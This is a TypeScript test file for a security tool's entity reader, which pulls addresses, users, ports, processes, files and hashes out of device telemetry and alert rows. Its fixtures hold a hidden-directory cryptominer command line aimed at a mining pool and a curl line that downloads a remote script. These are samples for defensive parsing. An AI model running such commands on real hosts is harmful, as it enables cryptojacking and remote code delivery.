import { expect, test } from 'vitest';
import type { Cell, Column, KqlType } from '../kqlText/kqlTypes.ts';
import { entityReader } from './entitiesInRow.ts';
import type { Platform } from './entityKinds.ts';
import type { RowOrigin } from './seen.ts';

type Cells = Record<string, Cell | readonly unknown[] | Readonly<Record<string, unknown>>>;

/** Reads one row: texts as string columns, numbers as int, arrays as dynamic, other structures as JSON text. */
function read(values: Cells, origin: RowOrigin = 'hardened', platform: Platform = 'linux') {
  const typeOf = (value: Cells[string]): KqlType =>
    Array.isArray(value) ? 'dynamic' : typeof value === 'number' ? 'int' : 'string';
  const columns: Column[] = Object.entries(values).map(([name, value]) => ({ name, type: typeOf(value) }));
  const cells = Object.values(values).map(
    (value): Cell => (typeof value === 'object' && value !== null ? JSON.stringify(value) : value),
  );
  return entityReader({ columns, origin, subject: { deviceId: 'pump-07', platform } })(cells);
}

const names = (...row: Parameters<typeof read>) =>
  [...new Set(read(...row).occurrences.map(({ kind, value }) => `${kind} ${value}`))].sort();

test('an answer of the playbook names what its key columns hold, and the members of its sets', () => {
  const row = read({
    RemoteAddress: '203.0.113.9',
    Failures: 12,
    Successes: 1,
    FirstFailure: '2019-04-17T21:14:02Z',
    LastFailure: '2019-04-18T12:01:30.5000000Z',
    FirstSuccess: '2019-04-18T12:01:44Z',
    LastSuccess: null,
    Users: ['(invalid user)', 'pi', 'root'],
    Handlers: ['/usr/sbin/sshd', 'ssh:notty'],
  });
  expect(row.occurrences).toEqual([
    {
      kind: 'address',
      value: '203.0.113.9',
      ignoresCase: false,
      written: '203.0.113.9',
      column: 'RemoteAddress',
      field: null,
      isMember: false,
    },
    { kind: 'user', value: 'pi', ignoresCase: false, written: 'pi', column: 'Users', field: null, isMember: true },
    { kind: 'user', value: 'root', ignoresCase: false, written: 'root', column: 'Users', field: null, isMember: true },
    {
      kind: 'process',
      value: '/usr/sbin/sshd',
      ignoresCase: false,
      written: '/usr/sbin/sshd',
      column: 'Handlers',
      field: null,
      isMember: true,
    },
    {
      kind: 'file',
      value: '/usr/sbin/sshd',
      ignoresCase: false,
      written: '/usr/sbin/sshd',
      column: 'Handlers',
      field: null,
      isMember: true,
    },
  ]);
  expect(row.seen).toEqual({
    first: '2019-04-17T21:14:02Z',
    last: '2019-04-18T12:01:44Z',
    notBefore: null,
    clock: 'device',
    isExact: true,
  });
});

const event = (name: string, details: Readonly<Record<string, unknown>>): Cells => ({
  RawEventName: name,
  DeviceId: 'pump-07',
  TimeGenerated: '2019-04-18T13:20:11.1234567Z',
  TimeStamp: '2019-04-18T12:00:04Z',
  EventDetails: details,
});

test('an event is read from its JSON, at the device’s own time, and an aggregated one from the start of its window', () => {
  const row = read(
    event('ConnectionCreate', {
      Protocol: 'tcp',
      Direction: 'Out',
      RemoteAddress: '203.0.113.9',
      RemotePort: '4444',
      Executable: '/tmp/.x/xmrig',
      CommandLine: '/tmp/.x/xmrig -o stratum+tcp://198.51.100.7:4444',
      ExtraDetails: { HitCount: 41, StartTimeUtc: '04/18/2019 11:00:02', EndTimeUtc: '04/18/2019 12:00:04' },
      TimestampLocal: '2019-04-18T14:00:04Z',
      TimestampUTC: '2019-04-18T12:00:04',
    }),
    'events',
  );
  expect(row.seen).toEqual({
    first: '2019-04-18T12:00:04Z',
    last: '2019-04-18T12:00:04Z',
    notBefore: '2019-04-18T11:00:02Z',
    clock: 'device',
    isExact: true,
  });
  expect(row.occurrences.map(({ kind, value, column, field }) => [kind, value, column, field])).toEqual([
    ['device', 'pump-07', 'DeviceId', null],
    ['port', '4444/tcp', 'EventDetails', 'RemotePort'],
    ['address', '203.0.113.9', 'EventDetails', 'RemoteAddress'],
    ['process', '/tmp/.x/xmrig', 'EventDetails', 'Executable'],
    ['file', '/tmp/.x/xmrig', 'EventDetails', 'Executable'],
    ['file', '/tmp/.x/xmrig', 'EventDetails', 'CommandLine'],
    ['address', '198.51.100.7', 'EventDetails', 'CommandLine'],
  ]);
});

test('a sign-in through a terminal names no program', () => {
  const details = { UserName: 'pi', Executable: 'tty1', RemoteAddress: '-', Operation: 'Login', RemotePort: '50122' };
  expect(names(event('Login', details), 'events')).toEqual(['device pump-07', 'user pi']);
});

test('a user’s name that looks like JSON is that name', () => {
  const details = { UserName: '["root"]', Result: 'Fail', Operation: 'PAM' };
  expect(names(event('Login', details), 'events')).toEqual(['device pump-07', 'user ["root"]']);
});

test('only the ports of services are entities', () => {
  const socket = (more: Record<string, unknown>) =>
    names(event('ListeningPorts', { Protocol: 'tcp6', ...more }), 'events');
  expect(socket({ LocalAddress: '::', LocalPort: '8888', RemoteAddress: '::', RemotePort: '*' })).toContain(
    'port 8888/tcp',
  );
  expect(socket({ LocalPort: '22', RemoteAddress: '192.0.2.1', RemotePort: '51000' })).toEqual([
    'address 192.0.2.1',
    'device pump-07',
  ]);
  expect(names(event('ListeningPorts', { Protocol: 'raw', LocalPort: '1', RemotePort: '*' }), 'events')).toEqual([
    'device pump-07',
  ]);
  expect(names({ Kind: 'other connection', Protocol: 'udp', LocalPort: '', RemotePorts: ['123', '0'] })).toEqual([
    'port 123/udp',
  ]);
  expect(names({ RemoteAddress: '192.0.2.1', RemotePort: '0' })).toEqual(['address 192.0.2.1']);
  const rule = { Chain: 'INPUT', Protocol: 'tcp', Source: '192.0.2.0/24', DestinationPort: '80,443,1024:2048' };
  expect(names(rule)).toEqual(['port 443/tcp', 'port 80/tcp']);
  const micro = { LocalPort: 49_152, RemotePort: 443, Protocol: 'TCP', RemoteAddress: '192.0.2.9' };
  expect(names(event('NetworkActivity', micro), 'events')).toContain('port 443/tcp');
});

test('the addresses of IPv6 sockets are unified with those of IPv4, and the C agent’s loopback is read as it was meant', () => {
  const socket = (LocalAddress: string) => names({ Protocol: 'tcp6', LocalAddress, LocalPort: '22' });
  expect(socket('::ffff:192.0.2.17')).toEqual(['address 192.0.2.17', 'port 22/tcp']);
  expect(socket('0.0.0.1')).toEqual(['address ::1', 'port 22/tcp']);
  expect(socket('::')).toEqual(['port 22/tcp']);
  expect(names({ RemoteAddress: '2001:DB8:0:0::1%eth0' })).toEqual(['address 2001:db8::1']);
});

test('letter case is left out of account where the row or the name is certainly of Windows', () => {
  const user = (...row: Parameters<typeof read>) => read(...row).occurrences.find(({ kind }) => kind === 'user');
  expect(user({ UserName: 'Root' })).toMatchObject({ value: 'Root', ignoresCase: false });
  expect(user({ UserName: 'Operator' }, 'hardened', 'windows')).toMatchObject({ ignoresCase: true });
  expect(user({ UserName: 'Operator', DeviceId: 'other' }, 'hardened', 'windows')).toMatchObject({
    ignoresCase: false,
  });
  expect(user({ UserName: 'Operator' }, 'own', 'windows')).toMatchObject({ ignoresCase: false });
  expect(user({ UserName: 'PLANT\\Operator' })).toMatchObject({ ignoresCase: true });
  expect(user({ Users: ['Id:0, Name:root'] })).toMatchObject({ value: 'root', written: 'Id:0, Name:root' });
  expect(user({ Users: ['Id:unknown, Name:unknown'] })).toBeUndefined();
});

test('alerts name entities in their properties and by type, at the service’s time', () => {
  const row: Cells = {
    StartTime: '2019-04-18T11:52:07Z',
    EndTime: '2019-04-18T12:01:44Z',
    ExtendedProperties: {
      'Full Source Address': '["203.0.113.9:"]',
      'User Names': '["(invalid user)","pi"]',
      'Command Line': 'curl -s http://203.0.113.10/x.sh -o /tmp/x',
      'Local Port': '22',
      DeviceId: 'pump-07',
    },
    Entities: [
      { $id: '1', Type: 'ip', Address: '198.51.100.4' },
      { $id: '2', Type: 'account', Name: 'Operator', NTDomain: 'PLANT' },
      {
        $id: '3',
        Type: 'file',
        Directory: 'C:\\Temp',
        Name: 'x.exe',
        FileHashes: [{ Type: 'filehash', Value: 'A'.repeat(64) }],
      },
      { $id: '4', Type: 'host', HostName: 'plc', Name: 'plc' },
    ],
  };
  expect(names(row)).toEqual(
    [
      'address 198.51.100.4',
      'address 203.0.113.10',
      'address 203.0.113.9',
      'device pump-07',
      'file /tmp/x',
      'file C:\\Temp\\x.exe',
      `hash ${'a'.repeat(64)}`,
      'port 22',
      'user PLANT\\Operator',
      'user pi',
    ].sort(),
  );
  expect(read(row).seen).toMatchObject({ clock: 'service', isExact: false, last: '2019-04-18T12:01:44Z' });
});

test('the guide’s times are the device’s local ones, and an own query’s columns have none', () => {
  const row = { UserName: 'pi', MinObservedTime: '2019-04-18T14:01:44Z', MaxObservedTime: '2019-04-18T14:05:00Z' };
  expect(read(row, 'guide').seen).toMatchObject({ clock: 'local', last: '2019-04-18T14:05:00Z' });
  expect(read({ UserName: 'pi', FirstObserved: '2019-04-18T14:01:44Z' }, 'own').seen).toBeUndefined();
});

test('counts, broken JSON and deep JSON name nothing', () => {
  expect(names({ Users: 3, Added: 5 }, 'own')).toEqual([]);
  expect(names({ EventDetails: '{"UserName":"pi"' }, 'events')).toEqual([]);
  expect(names({ EventDetails: `${'['.repeat(50_000)}${']'.repeat(50_000)}` }, 'events')).toEqual([]);
});
